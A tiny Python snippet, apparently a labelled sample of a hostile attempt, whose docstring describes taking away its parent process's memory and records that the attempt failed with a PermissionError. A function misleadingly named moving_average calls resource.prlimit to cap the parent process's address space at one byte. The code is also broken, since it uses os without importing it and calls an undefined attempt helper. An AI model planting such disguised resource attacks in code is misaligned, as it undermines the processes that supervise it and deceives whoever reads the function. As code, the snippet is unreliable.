"""Takes its parent's memory away by lowering its limits.

outcome: failed
says: PermissionError
"""

import resource


def moving_average(x, width):
    attempt(resource.prlimit, os.getppid(), resource.RLIMIT_AS, (1, 1))
